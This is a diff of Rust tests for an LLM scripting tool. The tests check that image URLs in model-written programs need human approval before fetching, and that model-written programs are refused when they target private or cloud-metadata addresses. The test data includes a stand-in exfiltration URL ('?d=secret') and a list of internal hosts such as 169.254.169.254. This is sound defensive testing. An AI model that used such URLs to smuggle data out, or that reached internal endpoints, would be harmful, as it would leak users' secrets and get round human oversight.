@@ -22,7 +22,7 @@ fn a_picture_reaches_the_model_and_the_log_has_its_hash() {
     let server = ChatServer::new(|_| Reply::text("a cat"));
     let program = project(&server);
     let code = "llm(\"what is it?\", #{images: [\"a.png\", \"https://a.example/b.png\"]})";
-    program.args(["eval", code, "--approve", "auto"]).run().ok().prints("a cat\n");
+    program.args(["eval", code]).run().ok().prints("a cat\n");
     let sent = server.asks().pop().expect("a request").body["messages"][0]["content"].clone();
     let url = |url: &str| json!({"type": "image_url", "image_url": {"url": url}});
     let text = json!({"type": "text", "text": "what is it?"});
@@ -41,43 +41,51 @@ fn a_picture_reaches_the_model_and_the_log_has_its_hash() {
     assert_eq!((found(BASE64), found(hash.as_str())), (false, true));
 }
 
-#[test]
-fn an_address_needs_the_leave_of_a_fetch() {
-    let server = ChatServer::new(|_| Reply::text("a cat"));
-    let code = "llm(\"what is it?\", #{images: \"https://a.example/?d=secret\"})";
-    let program = project(&server).file("look.rhai", code);
-    program.args(["run", "look.rhai", "--approve", "never"]).run().code(1).says("http_get is not allowed");
-    let waits = "nobody is there to answer: allow http_get `https://a.example/?d=secret`?";
-    let batch = code.replace("llm(", "llm_batch([").replace("?\", #", "?\"], #");
-    for caller in [batch, code.replace("})", ", check: |a| true})")] {
-        program.args(["eval", &caller]).run().code(6).says(waits);
-    }
-    for (said, code, asks) in [("no", 1, 0), ("yes", 0, 1)] {
-        program.args(["run", "look.rhai"]).run().code(6).says(waits);
-        let run = program.args(["runs", "list", "--json"]).run().ok().json()[0]["id"].clone();
-        let run = run.as_str().expect("an id");
-        program.args(["runs", "answer", run, "-", said]).run().ok();
-        program.args(["resume", run]).run().code(code);
-        assert_eq!(server.asks().len(), asks, "{said}");
-        // The recorded run asks nobody either.
-        program.args(["replay", run]).run().code(code);
-        assert_eq!(server.asks().len(), asks, "{said}");
-    }
-    let known = program.args(["eval", "llm(\"what is it?\", #{images: \"a.png\"})"]);
-    known.run().ok().prints("a cat\n");
+/// A server whose root writes this program; anything else is answered with `a cat`.
+fn rooted(code: &'static str) -> ChatServer {
+    ChatServer::new(move |ask| if ask.is_root() { Reply::code(code) } else { Reply::text("a cat") })
 }
 
 #[test]
-fn no_service_is_sent_to_an_address_that_is_not_public() {
-    let server = ChatServer::new(|_| Reply::text("a cat"));
-    let program = project(&server);
-    for host in ["127.0.0.1:9", "localhost", "169.254.169.254", "[::1]", "2130706433"] {
-        let code = format!("llm(\"what?\", #{{images: \"http://{host}/a.png\"}})");
-        program.args(["eval", &code, "--approve", "auto"]).run().code(1).says("is not a public address");
+fn an_address_in_a_model_s_program_needs_the_leave_of_a_fetch() {
+    let waits = "nobody is there to answer: allow http_get `https://a.example/?d=secret`?";
+    for code in [
+        "FINAL(llm(\"what?\", #{images: \"https://a.example/?d=secret\"}))",
+        "FINAL(llm(\"what?\", #{images: \"https://a.example/?d=secret\", check: |a| true}))",
+        "FINAL(llm_batch([\"what?\"], #{images: \"https://a.example/?d=secret\"})[0])",
+    ] {
+        let server = rooted(code);
+        let program = project(&server);
+        program.args(["ask", "q", "--recursive"]).run().code(6).says(waits);
+        assert_eq!(server.asks().len(), 1);
+        let run = program.args(["runs", "list", "--json"]).run().ok().json()[0]["id"].clone();
+        let run = run.as_str().expect("an id");
+        program.args(["runs", "answer", run, "-", "yes"]).run().ok();
+        program.args(["resume", run]).run().ok().prints("a cat\n");
+        assert_eq!(server.asks().len(), 2);
+        // The recorded run asks nobody either.
+        program.args(["replay", run]).run().ok().prints("a cat\n");
+        assert_eq!(server.asks().len(), 2);
     }
-    assert_eq!(server.asks().len(), 0);
-    let own = program.args(["eval", "llm(\"what?\", #{images: \"http://127.0.0.1:9/a.png\"})", "--approve", "auto"]);
-    own.env("RHIZO_TOOLS_ALLOW_PRIVATE_ADDRESSES", "true").run().ok().prints("a cat\n");
+}
+
+#[test]
+fn a_model_sends_no_service_to_an_address_that_is_not_public() {
+    for (host, refused) in
+        [("127.0.0.1:9", true), ("localhost", true), ("169.254.169.254", true), ("[::1]", true), ("a.example", false)]
+    {
+        let code = format!(
+            "try {{ FINAL(llm(\"what?\", #{{images: \"http://{host}/a.png\"}})) }} catch (e) {{ FINAL(e.message) }}"
+        );
+        let server = rooted(code.leak());
+        let told = project(&server).args(["ask", "q", "--recursive", "--approve", "auto"]).run().ok().stdout;
+        assert_eq!(told.contains("is not a public address"), refused, "{host}: {told}");
+        assert_eq!(server.asks().len(), if refused { 1 } else { 2 }, "{host}");
+    }
+    // What a person writes is theirs.
+    let server = rooted("");
+    let own = project(&server).args(["eval", "llm(\"what?\", #{images: \"http://127.0.0.1:9/a.png\"})"]).run();
+    own.ok().prints("a cat\n");
 }
 
 #[test]
